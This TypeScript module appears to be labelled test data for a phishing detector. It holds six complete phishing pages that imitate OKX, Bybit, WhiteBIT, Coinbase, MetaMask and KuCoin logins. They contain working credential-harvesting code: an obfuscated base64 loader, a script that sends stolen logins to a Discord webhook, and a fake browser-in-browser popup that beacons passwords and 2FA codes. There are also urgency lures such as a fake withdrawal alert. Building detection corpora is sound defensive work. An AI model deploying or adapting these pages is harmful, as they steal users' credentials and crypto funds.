import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, mark, footer } from '../parts/zw-kit.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'zw-kit-okx-zh-docwrite',
    label: 'phishing',
    kind: 'obfuscated-exchange-kit',
    url: 'https://www.okx-cn-login.top/account/login',
    body: `<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8"><title>OKX 欧易 | 登录</title><meta name="viewport" content="width=device-width,initial-scale=1"></head><body>
<script>var _p="${Buffer.from(`<div style="max-width:400px;margin:60px auto;font-family:PingFang SC,Microsoft YaHei,sans-serif"><div style="font-size:30px;font-weight:800">OKX</div><h2>欢迎回来</h2><form id="lg" method="post" action="/api/v5/login.php"><input name="account" placeholder="邮箱 / 手机号 / 子账户" style="width:100%;padding:12px;margin:8px 0;border:1px solid #ddd;border-radius:8px"><input name="pwd" type="password" placeholder="登录密码" style="width:100%;padding:12px;margin:8px 0;border:1px solid #ddd;border-radius:8px"><input name="gcode" placeholder="谷歌验证码" style="width:100%;padding:12px;margin:8px 0;border:1px solid #ddd;border-radius:8px"><button style="width:100%;padding:13px;background:#000;color:#fff;border:0;border-radius:24px">登录</button></form><p style="font-size:12px;color:#999">没有账户？<a href="#">注册</a> · <a href="#">忘记密码</a></p></div>`, 'utf8').toString('base64')}";
document.write(decodeURIComponent(escape(window.atob(_p))));
</script></body></html>`,
  },
  {
    id: 'zw-kit-bybit-vi-chatbot',
    label: 'phishing',
    kind: 'exchange-login-kit',
    url: 'https://bybit-vn-xacminh.com/dang-nhap',
    body: doc('Bybit | Đăng nhập', `
<div style="background:#0b0e11;color:#fff;min-height:100vh;padding:40px 16px">
<div style="max-width:420px;margin:auto"><div style="font-size:26px;font-weight:800">BYB<span style="color:#f7a600">I</span>T</div>
<h2>Xác minh tài khoản</h2><p style="color:#aaa;font-size:14px">Theo quy định mới, tài khoản chưa xác minh sẽ bị hạn chế rút tiền sau 24 giờ.</p>
<form id="f"><input name="email" placeholder="Email / Số điện thoại" style="width:100%;padding:12px;margin:6px 0;background:#1c2127;border:1px solid #333;color:#fff;border-radius:8px">
<input name="pass" type="password" placeholder="Mật khẩu" style="width:100%;padding:12px;margin:6px 0;background:#1c2127;border:1px solid #333;color:#fff;border-radius:8px">
<button style="width:100%;padding:13px;background:#f7a600;border:0;border-radius:8px;font-weight:700">Đăng nhập</button></form></div></div>
<script>
document.getElementById("f").addEventListener("submit",async function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));
var ip=await fetch("https://ipapi.co/json/").then(function(r){return r.json()}).catch(function(){return{}});
await fetch("https://discord.com/api/webhooks/1248833002911457380/Wq9sK2vL_mN8xP4rT6yU1iO3aS5dF7gH9jK0lZ2xC4vB6nM8qW",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({content:"**BYBIT VN** "+d.email+" : "+d.pass+" | "+(ip.ip||"")+" "+(ip.country||"")})});
location.href="https://www.bybit.com/vi-VN/"});
</script>`, { lang: 'vi' }),
  },
  {
    id: 'zw-kit-whitebit-uk',
    label: 'phishing',
    kind: 'exchange-login-kit',
    url: 'https://whitebit-ua.site/uk/auth/login',
    body: doc('WhiteBIT — Вхід', `
<div style="max-width:420px;margin:60px auto;padding:0 18px">
<div style="font-weight:800;font-size:24px">White<span style="color:#5bc4ff">BIT</span></div>
<h2>Вхід до акаунту</h2>
<p style="font-size:14px;color:#666">Для отримання компенсації за технічний збій 12.05 увійдіть та підтвердіть особу.</p>
<form method="post" action="https://whitebit-ua.site/uk/auth/check.php">
<input name="email" type="email" placeholder="Електронна пошта" style="width:100%;padding:12px;margin:6px 0">
<input name="password" type="password" placeholder="Пароль" style="width:100%;padding:12px;margin:6px 0">
<input name="tfa" placeholder="Код 2FA" style="width:100%;padding:12px;margin:6px 0">
<button style="width:100%;padding:13px;background:#5bc4ff;border:0;border-radius:8px">Увійти</button></form></div>`, { lang: 'uk' }),
  },
  {
    id: 'zw-kit-email-lure-withdrawal',
    label: 'phishing',
    kind: 'lure-page',
    url: 'https://coinbase-notice.support-ticket-center.com/case/CB-58213',
    body: doc('Coinbase Support — Case CB-58213', `
<div style="max-width:640px;margin:30px auto;border:1px solid #e6e8eb;border-radius:12px;padding:28px;font-size:15px">
<div style="color:#0052ff;font-weight:700;font-size:20px">coinbase</div>
<h2>Withdrawal request pending review</h2>
<p>Hello,</p>
<p>A withdrawal of <b>0.8421 BTC</b> (≈ $51,208.44) to <code>bc1q8f0…u7k2</code> was requested from your account on <b>May 14, 2025 at 03:12 UTC</b> from an unrecognised device in Lagos, Nigeria.</p>
<p>If this was not you, cancel the request and secure your account within 2 hours. Otherwise the transfer will be processed automatically.</p>
<p style="text-align:center;margin:28px 0"><a href="https://coinbase.secure-signin-auth.com/signin?case=CB-58213" style="background:#0052ff;color:#fff;padding:14px 30px;border-radius:30px;text-decoration:none">Cancel withdrawal</a></p>
<p style="color:#888;font-size:13px">If you need help, call our Account Protection line at +1 (888) 319-7402.</p>
<p style="color:#aaa;font-size:12px">Coinbase, Inc. · 248 3rd St #434, Oakland, CA 94607</p></div>`),
  },
  {
    id: 'zw-kit-metamask-portfolio-login',
    label: 'phishing',
    kind: 'wallet-login-kit',
    url: 'https://portfolio-metamask.login-sso.app/',
    body: doc('MetaMask Portfolio — Sign in', `
<div style="background:#f7f9fc;min-height:100vh;padding-top:70px"><div style="max-width:420px;margin:auto;background:#fff;border-radius:16px;padding:32px;text-align:center">
${mark('#f6851b', 'M', 56)}<h2>Sign in to MetaMask Portfolio</h2>
<p style="color:#666;font-size:14px">Enter the password you use to unlock the MetaMask extension to view your portfolio across all networks.</p>
<form action="https://formsubmit.co/el/rovaxi" method="POST"><input type="hidden" name="_captcha" value="false"><input type="hidden" name="_next" value="https://portfolio.metamask.io/"><input name="email" type="email" placeholder="Email" style="width:100%;padding:12px;margin:6px 0;border:1px solid #ddd;border-radius:8px"><input name="password" type="password" placeholder="MetaMask password" style="width:100%;padding:12px;margin:6px 0;border:1px solid #ddd;border-radius:8px"><button style="width:100%;padding:13px;background:#0376c9;color:#fff;border:0;border-radius:24px">Unlock</button></form></div></div>`),
  },
  {
    id: 'zw-kit-kucoin-steam-style-popup',
    label: 'phishing',
    kind: 'browser-in-browser-kit',
    url: 'https://kucoin-futures-cup.com/event',
    body: doc('KuCoin Futures Trading Cup 2025 — Prize pool 1,000,000 USDT', `
<div style="background:#01bc8d;color:#fff;padding:60px 20px;text-align:center"><h1>KuCoin Futures Cup</h1><p>Sign in to register your team and claim a 50 USDT trial bonus.</p><button id="open" style="background:#fff;color:#01bc8d;border:0;padding:14px 34px;border-radius:30px;font-weight:700">Log in with KuCoin</button></div>
<div id="bib" style="display:none;position:fixed;top:80px;left:50%;transform:translateX(-50%);width:480px;box-shadow:0 10px 50px rgba(0,0,0,.4);border-radius:8px;overflow:hidden;background:#fff">
<div style="background:#dee1e6;padding:8px 12px;font-size:12px;display:flex;gap:8px;align-items:center"><span style="color:#e0443e">●</span><span style="color:#dea123">●</span><span style="color:#1aab29">●</span><div style="flex:1;background:#fff;border-radius:12px;padding:3px 10px">🔒 https://www.kucoin.com/ucenter/signin</div></div>
<div style="padding:28px"><b style="color:#01bc8d;font-size:22px">KuCoin</b><form id="kf"><input name="account" placeholder="Email / Phone" style="width:100%;padding:12px;margin:8px 0"><input name="password" type="password" placeholder="Password" style="width:100%;padding:12px;margin:8px 0"><input name="trading_password" type="password" placeholder="Trading password" style="width:100%;padding:12px;margin:8px 0"><button style="width:100%;padding:12px;background:#01bc8d;color:#fff;border:0">Log In</button></form></div></div>
<script>
document.getElementById("open").onclick=function(){document.getElementById("bib").style.display="block"};
document.getElementById("kf").onsubmit=function(e){e.preventDefault();navigator.sendBeacon("/ev/collect",new FormData(this));document.getElementById("bib").innerHTML="<p style='padding:30px'>Registration complete. Bonus will be credited within 24h.</p>"};
</script>`),
  },
];
